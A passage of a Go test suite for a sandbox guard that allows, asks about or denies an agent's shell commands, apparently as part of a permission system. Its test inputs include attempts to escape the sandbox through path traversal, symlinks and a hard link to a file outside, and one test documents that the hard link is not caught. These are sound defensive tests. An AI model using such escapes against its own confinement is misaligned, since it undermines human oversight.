			"realpath -- BOX/a.txt": policy.Allow, "cat -- BOX/a.txt": policy.Allow, "cat >BOX/new": policy.Allow, "ls -a -l -- BOX/sub": policy.Allow,
			"realpath -- a.txt": policy.Deny, "cat -- OUT/secret": policy.Deny, "cat -- BOX/escfile": policy.Deny, "cat >BOX/esc/x": policy.Deny, "realpath -- box/a.txt": policy.Deny,
		} {
			for _, at := range []string{"/", dir, ""} {
				req := request(at, "", expand(dir, command))
				req.Action = true
				d := decide(t, g, req)
				assert.Equal(t, want, d.Verdict, "%s: %q: %s: %s", level, at, command, d.Reason)
			}
		}
	}
}

func TestASandboxIsForItsOwnPrincipalAndHost(t *testing.T) {
	dir := tree(t)
	g := guard(t, dir, policy.AllowAll)
	for name, change := range map[string]func(*policy.Request){
		"another principal": func(r *policy.Request) { r.Principal = "agent/other" },
		"another host":      func(r *policy.Request) { r.Host.Name = "web2" },
	} {
		req := request(dir+"/box", "bash", "ls")
		change(&req)
		d := decide(t, g, req)
		assert.Equal(t, policy.Deny, d.Verdict, name)
		assert.Equal(t, "sandbox/wrong", d.Rule, name)
	}
	off := guard(t, dir, policy.AllowAll, func(c *sandbox.GuardConfig) { c.Sandbox.Active = false })
	d := decide(t, off, request(dir+"/box", "bash", "ls"))
	assert.Equal(t, policy.Deny, d.Verdict)
	assert.Equal(t, "the sandbox app was switched off", d.Reason)
	nameless := guard(t, dir, policy.AllowAll, func(c *sandbox.GuardConfig) { c.Sandbox.Active, c.Sandbox.Label = false, "" })
	assert.Equal(t, "the sandbox "+dir+"/box was switched off", decide(t, nameless, request(dir+"/box", "bash", "ls")).Reason)
}

func TestNobodyKnowsWhatPathsAreTyped(t *testing.T) {
	dir := tree(t)
	req := request(dir+"/box", "bash", "cat")
	req.Input = "x\n"
	for _, tt := range []struct {
		level sandbox.Level
		inner policy.Decision
		want  policy.Verdict
	}{
		{sandbox.LevelChecked, policy.Decision{Verdict: policy.Allow, Class: policy.Write}, policy.Ask},
		{sandbox.LevelChecked, policy.Decision{Verdict: policy.Allow, Class: policy.ReadOnly}, policy.Allow},
		{sandbox.LevelChecked, policy.Decision{Verdict: policy.Ask, Class: policy.Write, Rule: "inner"}, policy.Ask},
		{sandbox.LevelChecked, policy.Decision{Verdict: policy.Deny, Class: policy.Write, Rule: "inner"}, policy.Deny},
		{sandbox.LevelAccount, policy.Decision{Verdict: policy.Allow, Class: policy.Write}, policy.Allow},
		{sandbox.LevelKernel, policy.Decision{Verdict: policy.Allow, Class: policy.Write}, policy.Allow},
	} {
		inner := policy.DeciderFunc(func(context.Context, policy.Request) (policy.Decision, error) { return tt.inner, nil })
		d := decide(t, guard(t, dir, inner, func(c *sandbox.GuardConfig) { c.Level = tt.level }), req)
		assert.Equal(t, tt.want, d.Verdict, "%s %v", tt.level, tt.inner)
		if tt.want == tt.inner.Verdict {
			assert.Equal(t, tt.inner, d, tt.level)
		} else {
			assert.Equal(t, "sandbox/uncertain", d.Rule)
			assert.Contains(t, d.Reason, "the paths in typed input")
		}
	}
}

func TestAHostThatDoesNotSayWhereThingsAreDenies(t *testing.T) {
	dir := tree(t)
	req := request(dir+"/box", "bash", "ls")
	gone := resolverFunc(func(context.Context, string, string, []string) ([]string, error) {
		return nil, errors.New("the connection is gone")
	})
	d := decide(t, guard(t, dir, policy.AllowAll, func(c *sandbox.GuardConfig) { c.Resolver = gone }), req)
	assert.Equal(t, policy.Deny, d.Verdict)
	assert.Equal(t, "sandbox/resolve", d.Rule)
	assert.Contains(t, d.Reason, "the connection is gone")

	short := resolverFunc(func(_ context.Context, _, _ string, p []string) ([]string, error) { return p[:1], nil })
	assert.Equal(t, policy.Deny, decide(t, guard(t, dir, policy.AllowAll, func(c *sandbox.GuardConfig) { c.Resolver = short }), req).Verdict)

	ctx, cancel := context.WithCancel(t.Context())
	cancel()
	_, err := guard(t, dir, policy.AllowAll).Decide(ctx, req)
	require.ErrorIs(t, err, context.Canceled)
}

func TestAShellThatWasMovedMayOnlyGoBack(t *testing.T) {
	dir := tree(t)
	moved := resolverFunc(func(ctx context.Context, host, cwd string, paths []string) ([]string, error) {
		if cwd != "" {
			return nil, sandbox.ErrMoved
		}
		return sandbox.Local{}.Resolve(ctx, host, cwd, paths)
	})
	g := guard(t, dir, policy.AllowAll, func(c *sandbox.GuardConfig) { c.Resolver = moved })
	d := decide(t, g, request(dir+"/box/sub", "bash", "cat x.txt"))
	assert.Equal(t, policy.Deny, d.Verdict)
	assert.Equal(t, "sandbox/cwd", d.Rule)
	assert.Equal(t, policy.Allow, decide(t, g, request(dir+"/box/sub", "bash", "cd "+dir+"/box")).Verdict)
	assert.Equal(t, policy.Deny, decide(t, g, request(dir+"/box/sub", "bash", "cd "+dir+"/out")).Verdict)
}

// Only a shell that stands elsewhere is asked about without its place; another error is not asked away.
func TestAHostThatFailsOnceIsNotAskedAgain(t *testing.T) {
	dir, asked := tree(t), 0
	once := resolverFunc(func(ctx context.Context, host, cwd string, paths []string) ([]string, error) {
		if asked++; asked == 1 {
			return nil, errors.New("the connection is gone")
		}
		return sandbox.Local{}.Resolve(ctx, host, cwd, paths)
	})
	d := decide(t, guard(t, dir, policy.AllowAll, func(c *sandbox.GuardConfig) { c.Resolver = once }), request(dir+"/box/sub", "bash", "cd "+dir+"/box"))
	assert.Equal(t, policy.Deny, d.Verdict)
	assert.Equal(t, "sandbox/resolve", d.Rule)
	assert.Equal(t, 1, asked)
}

func TestTheSandboxMayLieBehindALink(t *testing.T) {
	dir := tree(t)
	link(t, dir+"/box", dir+"/alias")
	g := guard(t, dir, policy.AllowAll, func(c *sandbox.GuardConfig) { c.Sandbox.Path = dir + "/alias" })
	for at, command := range map[string]string{dir + "/alias": "cat sub/x.txt", dir + "/box": "cat " + dir + "/alias/a.txt", dir + "/box/sub": "cat " + dir + "/box/a.txt"} {
		assert.Equal(t, policy.Allow, decide(t, g, request(at, "bash", command)).Verdict, command)
	}
	assert.Equal(t, policy.Deny, decide(t, g, request(dir+"/alias", "bash", "cat ../out/secret")).Verdict)
	require.NoError(t, os.Remove(dir+"/alias"))
	link(t, "/", dir+"/alias")
	assert.Equal(t, policy.Deny, decide(t, g, request(dir, "bash", "ls")).Verdict, "a sandbox that leads to the root")
}

func TestWhatAnEarlierCommandHasSetIsAskedAbout(t *testing.T) {
	dir := tree(t)
	req := request(dir+"/box", "bash", "ls sub")
	req.Set = []string{"ls"}
	d := decide(t, guard(t, dir, policy.AllowAll), req)
	assert.Equal(t, policy.Ask, d.Verdict)
	assert.Contains(t, d.Reason, "rests on ls")
}

func TestAGuardNeedsAllOfItsConfig(t *testing.T) {
	_, err := sandbox.NewGuard(sandbox.GuardConfig{Level: "strong"})
	for _, want := range []string{"principal is missing", "a policy and a resolver", `"strong"`} {
		require.ErrorContains(t, err, want)
	}
}

type resolverFunc func(context.Context, string, string, []string) ([]string, error)

func (f resolverFunc) Resolve(ctx context.Context, host, cwd string, paths []string) ([]string, error) {
	return f(ctx, host, cwd, paths)
}

// A second name of a file looks like any other. It is what the kernel must hold, and the package says so.
func TestAHardLinkToAFileOutsideIsNotSeenByWhatIsChecked(t *testing.T) {
	dir := tree(t)
	require.NoError(t, os.Link(dir+"/out/keep", dir+"/box/hard"))
	g := guard(t, dir, policy.AllowAll)
	assert.Equal(t, policy.Allow, decide(t, g, request(dir+"/box", "bash", "cat hard")).Verdict)
	assert.Equal(t, policy.Deny, decide(t, g, request(dir+"/box", "bash", "ln ../out/keep other")).Verdict, "but no new one can be made")
}
